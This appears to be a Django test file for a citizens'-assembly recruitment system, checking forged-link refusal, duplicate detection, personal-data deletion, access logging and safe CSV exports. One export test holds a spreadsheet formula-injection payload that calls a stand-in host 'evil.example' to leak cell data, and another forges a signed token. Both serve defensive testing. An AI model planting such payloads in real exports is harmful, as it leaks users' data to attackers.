"""Issue 12 in recruitment: forged links, seat takeover, duplicates, walk-ins, the replacement
seed, deletion of every personal field, logged access, safe exports, public lottery files."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from typing import Any

import pytest
from django.apps import apps
from django.core import mail, signing
from django.core.exceptions import ValidationError
from django.core.management import call_command
from django.db import models
from django.urls import reverse
from django.utils import timezone

from assemblea.assemblies import services as assembly_services
from assemblea.core.models import Event
from assemblea.recruitment import services
from assemblea.recruitment.models import (
    Registration,
    RegistrationStatus,
    RunKind,
    RunStatus,
    SeatClaim,
    SupportArrangement,
)

pytestmark = pytest.mark.django_db(transaction=True)

PROFILES = [("woman", "16-39"), ("woman", "40+"), ("man", "16-39"), ("man", "40+")]


def _codes(recruitment: Any, organizer: Any, count: int, address: str = "Main St") -> list[str]:
    rows = ["address,area"] + [f"{n} {address},North" for n in range(1, count + 1)]
    services.addresses_import(actor=organizer, recruitment=recruitment, text="\n".join(rows))
    services.invitations_draw(actor=organizer, recruitment=recruitment, size=count, seed="1")
    return list(
        recruitment.invitation_draws.last()
        .invitations.order_by("pk")
        .values_list("code", flat=True)
    )


def _submit(recruitment: Any, number: int, **extra: Any) -> Registration:
    gender, age = PROFILES[number % 4]
    arguments: dict[str, Any] = {
        "recruitment": recruitment,
        "answers": {"gender": gender, "age": age},
        "name": f"Person {number}",
        "email": f"p{number}@example.org",
        "language": "en",
        "consents_to_privacy_notice": True,
    }
    arguments.update(extra)
    return services.registration_submit(**arguments)


def _ready(recruitment: Any, organizer: Any, run_tasks: Any) -> Any:
    run = services.selection_start(actor=organizer, recruitment=recruitment)
    run_tasks()
    run.refresh_from_db()
    assert run.status == RunStatus.READY, run.error
    return run


def _link(message: Any) -> str:
    url = next(word for word in message.body.split() if "://" in word)
    return "/" + url.split("://", 1)[1].split("/", 1)[1]


# --- The "respond to your selection" link ------------------------------------------------


def test_a_respond_link_signed_with_the_secret_key_is_refused(
    client: Any, recruiting: Any, register: Any, organizer: Any, run_tasks: Any
) -> None:
    for number in range(12):
        register(*PROFILES[number % 4], number)
    run = _ready(recruiting, organizer, run_tasks)
    selected = services.selection_draw(actor=organizer, run=run, seed="1 2 3")
    victim = selected[0]
    # What an attacker can make with the (public, development) SECRET_KEY and the old salt.
    forged = signing.dumps(victim.pk, salt="assemblea.recruitment.respond")
    page = client.post(reverse("recruitment:respond", args=[forged]), {"answer": "no"})
    assert "not one of ours" in page.content.decode()
    victim.refresh_from_db()
    assert victim.status == RegistrationStatus.SELECTED
    # Only the hash of the real token is stored.
    assert len(victim.response_token_hash) == 64
    assert victim.response_token_hash not in json.dumps([m.body for m in mail.outbox])


def test_an_expired_respond_link_says_so(
    client: Any, recruiting: Any, register: Any, organizer: Any, run_tasks: Any
) -> None:
    for number in range(12):
        register(*PROFILES[number % 4], number)
    run = _ready(recruiting, organizer, run_tasks)
    mail.outbox.clear()
    services.selection_draw(actor=organizer, run=run, seed="1 2 3")
    link = _link(mail.outbox[0])
    Registration.objects.update(response_expires_at=timezone.now())
    assert "too old" in client.get(link).content.decode()


# --- Seats: claimed with a one-time link -------------------------------------------------


def _seated(recruiting: Any, register: Any, organizer: Any, run_tasks: Any) -> list[Any]:
    for number in range(12):
        register(*PROFILES[number % 4], number)
    run = _ready(recruiting, organizer, run_tasks)
    selected = services.selection_draw(actor=organizer, run=run, seed="1 2 3")
    for registration in selected:
        services.registration_respond(actor=organizer, registration=registration, accepted=True)
    mail.outbox.clear()
    services.recruitment_seat(actor=organizer, recruitment=recruiting)
    return selected


def test_an_expired_claim_link_says_how_to_get_a_new_one_and_a_new_link_works(
    client: Any, recruiting: Any, register: Any, organizer: Any, run_tasks: Any, make_user: Any
) -> None:
    selected = _seated(recruiting, register, organizer, run_tasks)
    registration = Registration.objects.get(pk=selected[0].pk)
    old = _link(next(m for m in mail.outbox if m.to == [registration.contact.email]))
    SeatClaim.objects.update(expires_at=timezone.now())
    client.force_login(make_user("member"))
    page = client.post(old).content.decode()
    assert "This link has expired" in page and "new link" in page
    registration.seat.refresh_from_db()
    assert registration.seat.user is None
    # The organizer sends a new one; only that one works.
    mail.outbox.clear()
    fresh = services.seat_claim_reissue(actor=organizer, registration=registration)
    assert len(mail.outbox) == 1 and fresh in mail.outbox[0].body
    client.post(_link(mail.outbox[0]))
    registration.seat.refresh_from_db()
    assert registration.seat.user is not None
    assert all(len(claim.token_hash) == 64 for claim in SeatClaim.objects.all())


def test_one_account_cannot_claim_two_seats(
    client: Any, recruiting: Any, register: Any, organizer: Any, run_tasks: Any, make_user: Any
) -> None:
    _seated(recruiting, register, organizer, run_tasks)
    first, second = (_link(message) for message in mail.outbox[:2])
    client.force_login(make_user("greedy"))
    client.post(first)
    page = client.post(second).content.decode()
    assert "already holds a seat" in page


# --- Duplicates ---------------------------------------------------------------------------


def test_the_same_email_with_two_codes_is_never_both_drawn(
    recruiting: Any, organizer: Any, run_tasks: Any
) -> None:
    services.walk_in_set(actor=organizer, recruitment=recruiting, open=False)
    codes = _codes(recruiting, organizer, 14)
    first = _submit(recruiting, 0, code=codes[0], email="Dana@Example.org")
    # Fullwidth letters and another case: the same address once NFKC-normalised.
    second = _submit(recruiting, 1, code=codes[1], email="ｄａｎａ@example.ORG ")
    for number in range(2, 14):
        _submit(recruiting, number, code=codes[number])
    second.refresh_from_db()
    assert second.duplicate_of == first and second.without_invitation is False
    run = _ready(recruiting, organizer, run_tasks)
    ids = {row.split(",")[0] for row in run.people_csv.splitlines()[1:]}
    assert first.public_id in ids and second.public_id not in ids
    # Whatever the seed, never both.
    for seed in ("1", "2", "3", "4", "5"):
        panels = run.report["lottery"]["panels"]
        assert all(not {first.public_id, second.public_id} <= set(p) for p in panels), seed


def test_same_phone_and_same_name_with_birth_year_are_duplicates(
    recruiting: Any, organizer: Any
) -> None:
    first = _submit(recruiting, 0, phone="+44 7700 900123", email="")
    by_phone = _submit(recruiting, 1, phone="0044-7700-900-123", email="")
    services.registration_form_set(
        actor=organizer, recruitment=recruiting, questions="", birth_year_category=""
    )
    third = _submit(recruiting, 2, name="José  Núñez", birth_year=1961)
    by_name = _submit(recruiting, 3, name="jose nunez", birth_year=1961)
    other_year = _submit(recruiting, 4, name="Jose Nunez", birth_year=1962)
    for registration in (by_phone, by_name, other_year):
        registration.refresh_from_db()
    assert by_phone.duplicate_of == first
    assert by_name.duplicate_of == third
    assert other_year.duplicate_of is None


def test_duplicates_are_flagged_on_the_dashboard_and_the_organizer_chooses(
    client: Any, recruiting: Any, organizer: Any, run_tasks: Any
) -> None:
    first = _submit(recruiting, 0, email="same@example.org")
    second = _submit(recruiting, 1, email="same@example.org")
    client.force_login(organizer)
    url = reverse("recruitment:overview", args=[recruiting.assembly.slug])
    page = client.get(url).content.decode()
    assert "Possible duplicates" in page and second.public_id in page
    client.post(url, {"keep": str(second.pk)})
    first.refresh_from_db()
    second.refresh_from_db()
    assert first.duplicate_of == second and second.duplicate_of is None
    assert Event.objects.filter(verb="recruitment.duplicate_chosen", public=False).exists()
    # Once the selection has taken the pool, the choice is fixed.
    for number in range(2, 14):
        _submit(recruiting, number)
    _ready(recruiting, organizer, run_tasks)
    with pytest.raises(ValidationError):
        services.registration_duplicate_keep(actor=organizer, registration=first)


def test_a_duplicate_is_never_seated(
    recruiting: Any, register: Any, organizer: Any, run_tasks: Any
) -> None:
    original = register("woman", "40+", 100)
    copy = _submit(recruiting, 101, email=original.contact.email)
    copy.refresh_from_db()
    assert copy.duplicate_of == original
    # Even if someone set it confirmed by hand, seating leaves it out.
    Registration.objects.filter(pk=copy.pk).update(status=RegistrationStatus.CONFIRMED)
    Registration.objects.filter(pk=original.pk).update(status=RegistrationStatus.CONFIRMED)
    assert services.recruitment_seat(actor=organizer, recruitment=recruiting) == 1


# --- Walk-in registration -----------------------------------------------------------------


def test_without_a_code_registration_needs_walk_in_open_and_is_marked(
    client: Any, recruiting: Any, organizer: Any
) -> None:
    services.walk_in_set(actor=organizer, recruitment=recruiting, open=False)
    with pytest.raises(ValidationError) as refused:
        _submit(recruiting, 0)
    assert refused.value.error_dict["code"][0].code == "invitation_code_required"
    assert not recruiting.registrations.exists()
    # The organizer opens it: allowed, marked, counted, and recorded as an event.
    client.force_login(organizer)
    url = reverse("recruitment:overview", args=[recruiting.assembly.slug])
    client.post(url, {"walk_in": "open"})
    recruiting.refresh_from_db()
    assert recruiting.walk_in_open
    walk_in = _submit(recruiting, 0)
    assert walk_in.without_invitation
    page = client.get(url).content.decode()
    assert "Registered without an invitation</dt><dd>1<" in page.replace("\n", "")
    verbs = list(Event.objects.values_list("verb", flat=True))
    assert verbs.count("recruitment.walk_in_opened") == 2  # the fixture's, and this one
    assert "recruitment.walk_in_closed" in verbs


def test_a_new_recruitment_starts_with_walk_in_closed(make_assembly: Any, organizer: Any) -> None:
    assembly = make_assembly(planned_size=6)
    recruitment = services.recruitment_start(
        actor=organizer,
        assembly=assembly,
        category=assembly.categories.get(),
        privacy_notice="We keep it safe.",
    )
    assert recruitment.walk_in_open is False


# --- The replacement lottery is published before its seed ---------------------------------


def test_the_replacement_seed_cannot_be_entered_before_the_lottery_is_published(
    client: Any, recruiting: Any, register: Any, organizer: Any, run_tasks: Any
) -> None:
    for number in range(16):
        register(*PROFILES[number % 4], number)
    run = _ready(recruiting, organizer, run_tasks)
    selected = services.selection_draw(actor=organizer, run=run, seed="1 2 3")
    services.registration_respond(actor=organizer, registration=selected[0], accepted=False)
    with pytest.raises(TypeError):
        services.replacement_start(  # type: ignore[call-arg]
            actor=organizer, recruitment=recruiting, seed="9 9 9"
        )
    client.force_login(organizer)
    panel_url = reverse("recruitment:panel", args=[recruiting.assembly.slug])
    page = client.get(panel_url).content.decode()
    assert "Compute and publish the replacement lottery" in page
    assert 'name="seed"' not in page
    # The seed posted early is ignored: nothing is drawn.
    client.post(panel_url, {"replace_draw": "1", "seed": "9 9 9"})
    assert not recruiting.runs.filter(kind=RunKind.REPLACEMENT).exists()
    client.post(panel_url, {"replace": "1"})
    replacement = recruiting.runs.get(kind=RunKind.REPLACEMENT)
    assert replacement.seed == "" and replacement.dropouts != []
    run_tasks()
    replacement.refresh_from_db()
    assert replacement.status == RunStatus.READY and "draw" not in replacement.report
    # Published: on the public record, with its lottery, before any seed.
    lottery = client.get(reverse("recruitment:lottery", args=[recruiting.assembly.slug]))
    assert "Replacement" in lottery.content.decode()
    report = client.get(
        reverse(
            "recruitment:lottery_file",
            args=[recruiting.assembly.slug, replacement.pk, "report.json"],
        )
    ).json()
    assert report["lottery"]["sha256"] and "draw" not in report
    published_at = Event.objects.get(verb="recruitment.replacement_ready").occurred_at
    page = client.get(panel_url).content.decode()
    assert 'name="seed"' in page
    client.post(panel_url, {"replace_draw": "1", "seed": "9 9 9"})
    replacement.refresh_from_db()
    assert replacement.status == RunStatus.DRAWN and replacement.seed == "9 9 9"
    drawn = Event.objects.get(verb="recruitment.replacements_drawn")
    assert drawn.occurred_at >= published_at
    (newcomer_id,) = replacement.report["replacement"]["replacements"]
    newcomer = recruiting.registrations.get(public_id=newcomer_id)
    assert newcomer.status == RegistrationStatus.SELECTED
    assert newcomer.answers["gender"] == selected[0].answers["gender"]


# --- Personal data: deleted everywhere, every access logged ------------------------------


def _planted(number: int) -> dict[str, str]:
    return {
        "name": f"Plantedname{number} Qxv",
        "email": f"planted{number}.qxv@example.org",
        "phone": f"+44 7700 9{number:05d}",
        "availability": f"planted availability {number} qxv",
        "support_notes": f"planted support note {number} qxv",
        "interpretation_language": f"Plantedlang{number}",
        "answer": f"planted free answer {number} qxv",
        "address": f"{number} Plantedstreet Qxv",
    }


def _text_columns() -> list[tuple[type[models.Model], str]]:
    columns = []
    for model in apps.get_models():
        for field in model._meta.concrete_fields:
            if isinstance(field, models.CharField | models.TextField | models.JSONField):
                columns.append((model, field.attname))
    return columns


def test_deletion_leaves_no_personal_value_in_any_text_column(
    recruiting: Any, organizer: Any, run_tasks: Any
) -> None:
    services.registration_form_set(
        actor=organizer, recruitment=recruiting, questions="Why do you want to take part?"
    )
    rows = ["address,area"] + [f"{_planted(n)['address']},North" for n in range(14)]
    services.addresses_import(actor=organizer, recruitment=recruiting, text="\n".join(rows))
    services.invitations_draw(actor=organizer, recruitment=recruiting, size=14, seed="1")
    invitations = {
        invitation.household.address: invitation.code
        for invitation in recruiting.invitation_draws.get().invitations.select_related("household")
    }
    for number in range(14):
        value = _planted(number)
        _submit(
            recruiting,
            number,
            code=invitations[value["address"]],
            name=value["name"],
            email=value["email"],
            phone=value["phone"],
            availability=value["availability"],
            support_needs=["sign_language"],
            support_notes=value["support_notes"],
            interpretation_language=value["interpretation_language"],
            extra_answers={"why-do-you-want-to-take-part": value["answer"]},
        )
    run = _ready(recruiting, organizer, run_tasks)
    for registration in services.selection_draw(actor=organizer, run=run, seed="4"):
        services.registration_respond(actor=organizer, registration=registration, accepted=True)
    services.recruitment_seat(actor=organizer, recruitment=recruiting)
    seated_names = {
        _planted(int(r.contact.name.split()[0].removeprefix("Plantedname")))["name"]
        for r in recruiting.registrations.filter(status=RegistrationStatus.SEATED)
    }
    recruiting.seated_at = timezone.now() - timezone.timedelta(days=recruiting.retention_days + 1)
    recruiting.save()
    answers_before = dict(recruiting.registrations.values_list("public_id", "answers"))

    call_command("delete_expired_personal_data", stdout=io.StringIO())

    planted = [(n, key, text) for n in range(14) for key, text in _planted(n).items()]
    found = []
    for model, column in _text_columns():
        for pk, value in model.objects.values_list("pk", column):
            text = json.dumps(value, ensure_ascii=False) if not isinstance(value, str) else value
            text = (text or "").casefold()
            for _number, key, needle in planted:
                if needle.casefold() not in text:
                    continue
                # A seated member's name stays on their seat in the assembly (the members'
                # record, in the assemblies app), nowhere else.
                if (
                    key == "name"
                    and needle in seated_names
                    and (model._meta.label, column) == ("assemblies.SeatHolder", "name")
                ):
                    continue
                found.append(f"{model._meta.label}.{column} (pk {pk}): {key}")
            if "sign_language" in text or '"birth_year"' in text:
                found.append(f"{model._meta.label}.{column} (pk {pk}): support need/birth year")
    assert not found, found
    # What the published lottery was computed on stays.
    assert dict(recruiting.registrations.values_list("public_id", "answers")) == answers_before
    run.refresh_from_db()
    assert run.people_csv and run.report["draw"]


def test_every_view_and_export_of_personal_data_is_logged(
    client: Any, recruiting: Any, organizer: Any
) -> None:
    codes = _codes(recruiting, organizer, 2)
    registration = _submit(recruiting, 0, code=codes[0])
    _submit(recruiting, 1, code=codes[1], email=registration.contact.email)
    seat = assembly_services.seat_fill(
        actor=organizer, category=recruiting.category, name="Seated Member"
    )
    SupportArrangement.objects.create(seat=seat, support_booked="childcare")
    client.force_login(organizer)
    slug = recruiting.assembly.slug
    letters = services.letters_prepare(
        actor=organizer, recruitment=recruiting, registration_url="https://x.example/r/"
    )
    services.letters_build(letters.pk)
    urls = [
        reverse("recruitment:registrations", args=[slug]),
        reverse("recruitment:registrations_export", args=[slug]),
        reverse("recruitment:mail_merge", args=[slug]),
        reverse("recruitment:letters_download", args=[slug, letters.pk]),
        reverse("recruitment:panel", args=[slug]),
        reverse("recruitment:overview", args=[slug]),  # shows the duplicates' names
        reverse("recruitment:person", args=[slug, registration.public_id]),
        reverse("recruitment:support", args=[slug, seat.pk]),
    ]
    for url in urls:
        before = Event.objects.filter(verb__startswith="recruitment.personal_data_").count()
        assert client.get(url).status_code == 200, url
        logged = Event.objects.filter(verb__startswith="recruitment.personal_data_").order_by("id")
        assert logged.count() == before + 1, url
        event = logged.last()
        assert event.public is False and event.actor_id == organizer.pk and event.data["what"]
        assert registration.contact.email not in json.dumps(event.data)


def test_formulas_typed_into_the_public_form_are_not_live_cells(
    client: Any, recruiting: Any, organizer: Any
) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    _submit(recruiting, 0, name=formula, extra_answers={})
    client.force_login(organizer)
    slug = recruiting.assembly.slug
    body = client.get(reverse("recruitment:registrations_export", args=[slug])).content.decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    assert rows[0]["name"] == "'" + formula
    services.addresses_import(
        actor=organizer, recruitment=recruiting, text='address,area\n"=1+2, Main St",North\n'
    )
    services.invitations_draw(actor=organizer, recruitment=recruiting, size=1, seed="1")
    merge = client.get(reverse("recruitment:mail_merge", args=[slug])).content.decode()
    assert all(
        not row["address"].startswith(("=", "@", "+", "-"))
        for row in csv.DictReader(io.StringIO(merge))
    )


# --- The public lottery: aggregates only ----------------------------------------------------


def test_the_public_lottery_files_link_no_id_to_answers(
    client: Any, recruiting: Any, register: Any, organizer: Any, run_tasks: Any, tmp_path: Any
) -> None:
    for number in range(13):
        register(*PROFILES[number % 4], number)
    register("woman", "40+", 99)
    run = _ready(recruiting, organizer, run_tasks)
    services.selection_draw(actor=organizer, run=run, seed="1 2 3")
    slug = recruiting.assembly.slug

    def get(name: str) -> Any:
        return client.get(reverse("recruitment:lottery_file", args=[slug, run.pk, name]))

    assert get("people.csv").status_code == 404
    report = get("report.json").json()
    text = json.dumps(report)
    assert "distribution" not in report and '"profile"' not in text and '"members"' not in text
    # No answer value appears next to an id anywhere in the report.
    ids = set(recruiting.registrations.values_list("public_id", flat=True))
    for key in ("lottery", "draw"):
        assert "woman" not in json.dumps(report[key]) and "16-39" not in json.dumps(report[key])
    assert ids & set(report["draw"]["panel"])
    for row in report["quotas"]:
        assert row["in_pool"] is None or row["in_pool"] == 0 or row["in_pool"] >= 3
        assert row["on_panel"] is None or row["on_panel"] == 0 or row["on_panel"] >= 3
    # Still verifiable from the public files alone.
    (tmp_path / "report.json").write_text(json.dumps(report))
    check = subprocess.run(
        [
            sys.executable,
            "-m",
            "assemblea",
            "sortition",
            "verify",
            "--report",
            str(tmp_path / "report.json"),
            "--seed",
            "1 2 3",
        ],
        capture_output=True,
        text=True,
    )
    assert check.returncode == 0 and "VERIFIED" in check.stdout, check.stdout + check.stderr
    page = client.get(reverse("recruitment:lottery", args=[slug])).content.decode()
    assert "people.csv" not in page
    # The loss of fairness from rounding is shown beside the bound no lottery can beat.
    loss = report["lottery"]["fairness_loss"]
    assert f"{loss['min_probability_loss_bound']:.6f}" in page
    assert f"{loss['min_probability_loss']:.6f}" in page
    # The organizers can hand the inputs to an auditor; that is logged, and no one else can.
    audit = reverse("recruitment:audit_file", args=[slug, run.pk])
    assert client.get(audit).status_code == 302  # to the login page
    client.force_login(organizer)
    assert client.get(audit).content.decode() == run.people_csv
    exported = Event.objects.filter(verb="recruitment.personal_data_exported")
    assert any("audit" in event.data["what"] for event in exported)


def test_the_public_composition_withholds_small_cells(
    recruiting: Any, register: Any, organizer: Any
) -> None:
    from assemblea.recruitment.selectors import seated_against_population_public

    for number, (gender, age) in enumerate(
        [("woman", "40+")] * 3 + [("woman", "16-39")] * 2 + [("man", "16-39")]
    ):
        registration = register(gender, age, number)
        Registration.objects.filter(pk=registration.pk).update(status=RegistrationStatus.SEATED)
    lines = {
        (line.category, line.value): line.seated
        for line in seated_against_population_public(recruiting)
    }
    assert lines[("gender", "woman")] is None  # withheld with the small cell beside it
    assert lines[("gender", "man")] is None
    assert lines[("age", "40+")] == 3 and lines[("age", "16-39")] == 3
